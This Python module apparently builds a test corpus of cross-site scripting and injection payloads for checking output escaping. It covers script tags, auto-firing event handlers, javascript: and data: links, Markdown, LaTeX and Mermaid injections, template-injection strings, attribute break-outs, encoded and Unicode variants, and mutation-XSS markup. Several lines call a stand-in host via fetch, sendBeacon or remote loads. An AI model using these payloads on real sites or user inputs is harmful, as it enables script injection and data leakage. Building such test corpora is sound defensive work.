"""Texts that try to run a script, to load something from elsewhere, or to lead a reader away."""

from collections.abc import Iterator
from dataclasses import dataclass
from itertools import product

CANARY = "window.attacked"
RUN = "top.attacked=1"  # without quotes of either sort, so that it fits every shape
HOST = "elsewhere.invalid"
AWAY = f"https://{HOST}/"

# Kinds that do harm at once where they stand unescaped in a page of HTML.
AT_ONCE = ("script element", "event handler", "loaded at once")


@dataclass(frozen=True, slots=True)
class Payload:
    """Hold one text and the kind that it is of."""

    kind: str
    text: str


_SCRIPT_ELEMENTS = (
    "<script>{run}</script>",
    "<SCRIPT>{run}</SCRIPT>",
    "<script type=text/javascript>{run}</script >",
    "<script/x>{run}</script>",
    "<script\t>{run}</script\n>",
    "<p><script>{run}</script></p>",
    "<svg><script>{run}</script></svg>",
    "<svg><script href='data:text/javascript,{run}'></script></svg>",
    "<script src='data:text/javascript,{run}'></script>",
    "<script src='{away}s.js'></script>",
    "<script type=module>import '{away}m.js'</script>",
    "<script>fetch('{away}f')</script>",
    "<script>navigator.sendBeacon('{away}b')</script>",
    "<script>new Image().src='{away}i'</script>",
    "<script>alert(1)</script>",
    "<script>confirm(1)</script>",
)

# Elements whose event comes by itself, with the events that do.
_HANDLERS = (
    ("<img src=x {on}error={run}>", ("on", "ON", "oN")),
    ("<img src=x {on}error='{run}'>", ("on",)),
    ("<img src=x {on}error=\"{run}\" alt='>'>", ("on",)),
    ("<img/src='x'/{on}error={run}>", ("on",)),
    ("<img\nsrc=x\n{on}error={run}>", ("on",)),
    (
        "<IMG SRC=data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw== {on}load={run}>",
        ("on",),
    ),
    ("<svg {on}load={run}>", ("on", "On")),
    ("<svg/{on}load={run}>", ("on",)),
    ("<body {on}load={run}>", ("on",)),
    ("<body {on}pageshow={run}>", ("on",)),
    ("<input autofocus {on}focus={run}>", ("on",)),
    ("<textarea autofocus {on}focus={run}></textarea>", ("on",)),
    ("<select autofocus {on}focus={run}></select>", ("on",)),
    ("<button autofocus {on}focus={run}>b</button>", ("on",)),
    ("<div tabindex=0 autofocus {on}focus={run}>d</div>", ("on",)),
    ("<details open {on}toggle={run}>d</details>", ("on",)),
    ("<video><source src=x {on}error={run}></video>", ("on",)),
    ("<video src=x {on}error={run}></video>", ("on",)),
    ("<audio src=x {on}error={run}></audio>", ("on",)),
    ("<iframe {on}load={run}></iframe>", ("on",)),
    ("<iframe srcdoc='<script>{run}</script>'></iframe>", ("on",)),
    ("<iframe src='javascript:{run}'></iframe>", ("on",)),
    ("<object data=x {on}error={run}></object>", ("on",)),
    ("<style {on}load={run}></style>", ("on",)),
    ("<link rel=stylesheet href=data:text/css, {on}load={run}>", ("on",)),
    ("<svg><animate {on}begin={run} attributeName=x dur=1s></svg>", ("on",)),
    ("<svg><image href=x {on}error={run}></svg>", ("on",)),
    ("<img src=x {on}error=alert(1)>", ("on",)),
    ("<img src=x {on}error=&#97;lert(1)>", ("on",)),
)

_LOADED = (
    "<img src='{away}i.png'>",
    "<img srcset='{away}i.png 1x'>",
    "<picture><source srcset='{away}p.png'><img></picture>",
    "<image src='{away}i.png'>",
    "<input type=image src='{away}i.png'>",
    "<video poster='{away}v.png'></video>",
    "<video src='{away}v.mp4' preload=auto></video>",
    "<audio src='{away}a.mp3' preload=auto></audio>",
    "<iframe src='{away}f'></iframe>",
    "<iframe srcdoc='<img src={away}i.png>'></iframe>",
    "<embed src='{away}e'>",
    "<object data='{away}o'></object>",
    "<link rel=stylesheet href='{away}s.css'>",
    "<style>@import '{away}s.css';</style>",
    "<style>body{{background:url({away}b.png)}}</style>",
    "<div style='background:url({away}d.png)'>d</div>",
    "<p style='background-image:image-set(\"{away}d.png\" 1x)'>p</p>",
    "<body background='{away}b.png'>",
    "<table background='{away}t.png'><tr><td>t</table>",
    "<svg><image href='{away}i.png'></svg>",
    "<svg><image xlink:href='{away}i.png'></svg>",
    "<ul style='list-style-image:url({away}l.png)'><li>l</ul>",
    "<meta http-equiv=refresh content='0;url={away}r'>",
)

_ADDRESSES = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "java\tscript:{run}",
    "\x01javascript:{run}",
    "&#106;avascript:{run}",
    "&#x6A&#x61&#x76&#x61script:{run}",
    "javascript&colon;{run}",
    "javascript:alert(1)",
    "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:{run}",
    "{away}a",
    "//{host}/a",
    "\\\\{host}\\a",
)
_LINKS = (
    '<a href="{address}">a</a>',
    '<svg><a xlink:href="{address}"><text>a</text></a></svg>',
    '<form action="{address}"><button>b</button></form>',
    '<form><button formaction="{address}">b</button></form>',
    '<map><area href="{address}"></map>',
    "[a]({address})",
    "<{address}>",
)

_MARKDOWN = (
    "![i]({away}i.png)",
    '![i]({away}i.png "title")',
    "![i][r]\n\n[r]: {away}i.png",
    "[![i]({away}i.png)]({away}a)",
    "![i](data:image/svg+xml,<svg%20onload={run}>)",
    '!["onerror="{run}](x)',
    '![i](x"onerror="{run})',
    '[a](javascript:{run} "t")',
    "[a]( javascript:{run})",
    "[r]\n\n[r]: javascript:{run}",
    "{away}bare",
    "www.{host}",
    "attacker@{host}",
    "\n\n<script>{run}</script>\n\n",
    "\n\n<img src=x onerror={run}>\n\n",
    "text\n\n    <script>{run}</script>",
    "- <img src=x onerror={run}>",
    "> <img src=x onerror={run}>",
    "# <img src=x onerror={run}>",
    "| a |\n|---|\n| <img src=x onerror={run}> |",
    "`</code><img src=x onerror={run}>`",
    "```html\n<script>{run}</script>\n```",
    '```mermaid\ngraph TD; A-->B; click A href "javascript:{run}"\n```',
    "```mermaid\n%%{{init: {{'securityLevel': 'loose'}}}}%%\ngraph TD; A[\"<img src=x onerror={run}>\"]\n```",
    "<details open ontoggle={run}><summary>s</summary>\n\n![i]({away}i.png)\n\n</details>",
    "[^1]\n\n[^1]: <img src=x onerror={run}>",
)

_LATEX = (
    "$\\href{{javascript:{run}}}{{x}}$",
    "$$\\href{{javascript:{run}}}{{x}}$$",
    "\\(\\url{{javascript:{run}}}\\)",
    "\\[\\includegraphics{{{away}i.png}}\\]",
    "$$\\includegraphics[height=1em]{{{away}i.png}}$$",
    "$\\htmlData{{x=<img src=x onerror={run}>}}{{x}}$",
    "$\\htmlStyle{{background:url({away}b.png)}}{{x}}$",
    "$\\text{{<img src=x onerror={run}>}}$",
    "$$\\unicode{{x3c}}script{{{run}}}$$",
)

_TEMPLATES = (
    "${{{run}}}",
    "`${{{run}}}`",
    "`;{run};`",
    "\\`${{{run}}}",
    "{{{{constructor.constructor('{run}')()}}}}",
    "{{{{#with this}}}}{{{{lookup constructor 'constructor'}}}}{{{{/with}}}}",
    "{{{{{{value}}}}}}",
    "{{{{ config.__class__ }}}}",
    "{{% import os %}}{{{{ os.system('true') }}}}",
    "<%= {run} %>",
    "#{{{run}}}",
    '__i18n__{{"key": "<img src=x onerror={run}>"}}',
    "{{@html '<img src=x onerror={run}>'}}",
    "[[${{{run}}}]]",
)

_BREAK_OUTS = (
    '"><script>{run}</script>',
    "'><script>{run}</script>",
    '" autofocus onfocus="{run}',
    "' autofocus onfocus='{run}",
    '" style="background:url({away}b.png)',
    "--><script>{run}</script><!--",
    "]]><script>{run}</script>",
    "</script><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "</title><script>{run}</script>",
    "</style><script>{run}</script>",
    "</template><script>{run}</script>",
    "</blockquote></li></ul></div><img src=x onerror={run}>",
    "</mark></p></aside><iframe src='{away}f'></iframe>",
    "*/{run}/*",
    '\\";{run}//',
    "\r\n\r\n<img src=x onerror={run}>\r\n\r\n",
    "\n\n![i]({away}i.png)\n\n",
    "[1] onmouseover={run} [1]",
    "<gradio-app src='{away}'></gradio-app>",
    "<script>{run}//",
    "<script src=//{host}/s.js></script>",
    "<img src=//{host}/i.png>",
    "<img/src=x/onerror={run}>",
)

_ENTITIES = (
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&amp;lt;img src=x onerror={run}&amp;gt;",
    "&#60;img src=x onerror={run}&#62;",
    "&#x3c;img src=x onerror={run}&#x3e;",
    "&#x003C&#x003E<img src=x onerror={run}>",
    "%3Cimg%20src%3Dx%20onerror%3D{run}%3E",
    "\\u003cimg src=x onerror={run}\\u003e",
    "&NewLine;&NewLine;![i]({away}i.png)",
    "&#10;&#10;<img src=x onerror={run}>",
)

# Markup that a reader of HTML takes apart in one way at first, and in another way the second time.
_MUTATIONS = (
    '<noscript><p title="</noscript><img src=x onerror={run}>">',
    '<svg></p><style><a title="</style><img src=x onerror={run}>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;<img src=x onerror={run}>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={run}>",
    "<svg><desc><img src=x onerror={run}></desc></svg>",
    "<svg><foreignObject><img src=x onerror={run}></foreignObject></svg>",
    "<svg><title><style><img src=x onerror={run}></style></title></svg>",
    "<math><annotation-xml encoding=text/html><img src=x onerror={run}></annotation-xml></math>",
    "<template><script>{run}</script></template>",
    "<div><template shadowrootmode=open><img src=x onerror={run}></template></div>",
    "<select><template><img src=x onerror={run}></template></select>",
    '<xmp><p title="</xmp><img src=x onerror={run}>">',
    "<listing>&lt;img src=x onerror={run}&gt;</listing>",
    "<plaintext><img src=x onerror={run}>",
    "<!--><img src=x onerror={run}>-->",
    "<![CDATA[<img src=x onerror={run}>]]>",
    "<?xml version='1.0'?><img src=x onerror={run}>",
    "<table><td><img src=x onerror={run}></table>",
    "<a href='x' id=footnote name=footnote>clobber</a>",
    "<base href='{away}'>",
)

_UNICODE = (
    "＜script＞{run}＜/script＞",
    "‹script›{run}‹/script›",
    "<scr\u200bipt>{run}</scr\u200bipt>",
    "<scr\u00adipt>{run}</script>",
    "<\u0000script>{run}</script>",
    "<img src=x one\u0301rror={run}>",
    "<img\u00a0src=x\u00a0onerror={run}>",
    "<img\u2028src=x\u2028onerror={run}>",
    "\u202e>tpircs/<1=dekcatta.pot>tpircs<",
    "\u2066<img src=x onerror={run}>\u2069",
    "<\u017fcript>{run}</\u017fcript>",
    "\ufeff<img src=x onerror={run}>",
    "\u2028\u2028![i]({away}i.png)",
    "\x0c\x0b<img src=x onerror={run}>\x85",
    "\u0130<img src=x onerror={run}>",
)


def _written(kind: str, shapes: tuple[str, ...]) -> Iterator[Payload]:
    for shape in shapes:
        yield Payload(kind, shape.format(run=RUN, away=AWAY, host=HOST))


def _handlers() -> Iterator[Payload]:
    for shape, prefixes in _HANDLERS:
        for prefix in prefixes:
            yield Payload("event handler", shape.format(on=prefix, run=RUN))


def _links() -> Iterator[Payload]:
    for link, address in product(_LINKS, _ADDRESSES):
        written = address.format(run=RUN, away=AWAY, host=HOST)
        yield Payload("link", link.format(address=written))


PAYLOADS: tuple[Payload, ...] = (
    *_written("script element", _SCRIPT_ELEMENTS),
    *_handlers(),
    *_written("loaded at once", _LOADED),
    *_links(),
    *_written("Markdown", _MARKDOWN),
    *_written("LaTeX", _LATEX),
    *_written("template", _TEMPLATES),
    *_written("break-out", _BREAK_OUTS),
    *_written("entity", _ENTITIES),
    *_written("mutation", _MUTATIONS),
    *_written("Unicode", _UNICODE),
)
